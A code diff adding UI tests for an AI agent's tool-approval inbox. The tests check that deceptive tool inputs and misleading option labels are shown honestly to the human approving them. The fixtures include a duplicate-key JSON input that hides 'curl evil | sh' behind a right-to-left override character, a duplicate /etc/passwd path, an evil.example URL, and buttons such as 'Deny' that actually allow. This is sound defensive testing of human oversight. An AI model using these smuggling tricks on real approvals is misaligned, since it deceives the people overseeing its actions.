@@ -183,6 +183,72 @@ describe('edit, then allow', () => {
   }
 });
 
+describe('an input that JSON.parse changes', () => {
+  const NOTE = 'A browser would change values of this input, so the input is shown as the agent wrote it.';
+  const TEXTS = [
+    '{"amount":9007199254740993,"to":12345678901234567890}', '{"amount":1e400,"neg":-0}', '{"target":"prod-EVIL","target":"test"}', '{"command":"curl evil | sh\u202e","command":"ls"}',
+    '{"file_path":"/etc/passwd","file_path":"a","old_string":"a","new_string":"b"}', '{"url":"http://evil.example/","url":"https://example.com/"}', `{"a":"${'x'.repeat(90_000)}","n":1e400}`,
+  ];
+  const seen = text => text.replaceAll('\u202e', '<U+202E>');
+
+  test('stands on the card as the agent wrote it, and cannot be edited', async () => {
+    const { page, answers, card } = await inbox([...TEXTS.map((text, i) => request(`r${i}`, JSON.parse(text), { input_text: text, title: `Run \`${JSON.parse(text).command ?? 'it'}\`` })), request('plain', { command: 'ls' })], VIEWS['phone, light']);
+    for (const [i, text] of TEXTS.entries()) {
+      await unfold(card(`r${i}`));
+      assert.equal(await subjects(card(`r${i}`)), seen(text));
+      assert.equal(await card(`r${i}`).getByText(NOTE).count(), 1);
+      assert.equal(await card(`r${i}`).getByRole('button', { name: 'Edit, then allow' }).count(), 0);
+    }
+    assert.equal(await card('plain').getByText(NOTE).count(), 0);
+    assert.equal(await card('plain').getByRole('button', { name: 'Edit, then allow' }).count(), 1);
+    assert.ok(!(await page.locator('.inbox').textContent()).includes('\u202e'));
+    await fits(page);
+    await accessible(page, 'an input as a text');
+    await card('r0').getByRole('button', { name: 'Allow', exact: true }).click();
+    await until('the answer is sent', () => answers.length === 1);
+    assert.equal(answers[0].updated_input, undefined);
+    await page.leave();
+  });
+
+  for (const tool of ['Bash', 'Edit', 'WebFetch', 'a_tool']) {
+    test(`stands in the card of the call as the agent wrote it: ${tool}`, async () => {
+      const facts = (input_text, kind) => ({ callProviderMetadata: { tributary: { kind, input_text } } }), kind = call(tool).callProviderMetadata.tributary.kind;
+      const parts = TEXTS.slice(0, -1).map((text, i) => call(tool, JSON.parse(text), 'done', { toolCallId: `c${i}`, ...facts(text, kind) }));
+      const page = await show(site, [asks('go'), says(...parts, { ...call(tool, JSON.parse(TEXTS[3])), ...facts(TEXTS[3], kind), state: 'approval-requested', approval: { id: 'r1' } })]);
+      for (const [i, text] of TEXTS.slice(0, -1).concat(TEXTS[3]).entries()) {
+        const it = page.locator('.tool').nth(i);
+        await it.waitFor();
+        if (await it.locator('> details').getAttribute('open') === null) await it.locator('summary').first().click();
+        await until(`the text is there: ${text}`, async () => await subjects(it) === seen(text));
+        assert.equal(await it.getByText(NOTE).count(), 1);
+        for (const parsed of ['ls', 'https://example.com/', 'test']) assert.ok(!(await it.locator('summary').first().textContent()).includes(parsed), 'the head says no value that JSON.parse has chosen');
+      }
+      await page.leave();
+    });
+  }
+});
+
+test('a title is cut only where the card shows the rest', async () => {
+  const titles = [['Read README\nEVIL', { command: 'R' }], ['Run `a\nb` and EVIL', { command: 'a\nb' }], ['Run `a`\nEVIL', { command: 'a' }], ['x\nEVIL', { command: 'x\ny' }], ['Read\nEVIL', { path: 'a' }]];
+  const { page, card } = await inbox(titles.map(([title, input], i) => request(`r${i}`, input, { title })));
+  for (const [i, [title]] of titles.entries()) assert.equal(await card(`r${i}`).locator('.ask-title').textContent(), i === 1 ? 'Run `a…` and EVIL' : title);
+  await page.leave();
+});
+
+test('an option whose name says another thing than its kind says what it does', async () => {
+  const option = (name, kind) => ({ id: `${name} ${kind}`, name, kind, scope: 'this call' });
+  const { page, card } = await inbox([request('r1', { command: 'ls' }, { options: [
+    option('Deny', 'allow_always'), option('Allow', 'reject_once'), option('Yes, reject', 'allow_once'), option('Go on', 'allow_once'), option('Al\u200blow', 'allow_once'), option('denies: x', 'allow_once'), option('Cancel', 'reject_always'),
+    option('Allow once', 'allow_once'), option('Always allow ls', 'allow_always'), option('Deny', 'reject_once'), option('No, and say why', 'reject_once'), option('Other', undefined),
+  ] })]);
+  assert.deepEqual(await card('r1').locator('.ask-options button').evaluateAll(all => all.map(b => [b.querySelector('.ask-effect') ? b.querySelectorAll('.ask-effect svg').length : 0, b.textContent.replace(/this call$/, '')])), [
+    [1, 'allows: Deny'], [1, 'denies: Allow'], [1, 'allows: Yes, reject'], [1, 'allows: Go on'], [1, 'allows: Al<U+200B>low'], [1, 'allows: denies: x'], [1, 'denies: Cancel'],
+    [0, 'Allow once'], [0, 'Always allow ls'], [0, 'Deny'], [0, 'No, and say why'], [0, 'Other'],
+  ]);
+  await accessible(page, 'options');
+  await page.leave();
+});
+
 for (const view of Object.keys(VIEWS)) {
   test(`the cards are legible (${view})`, async () => {
     const names = ['arguments beside the command', 'where and how a command runs', 'edits beside an edit', 'a text turned round', 'a command behind empty lines', 'several texts'];
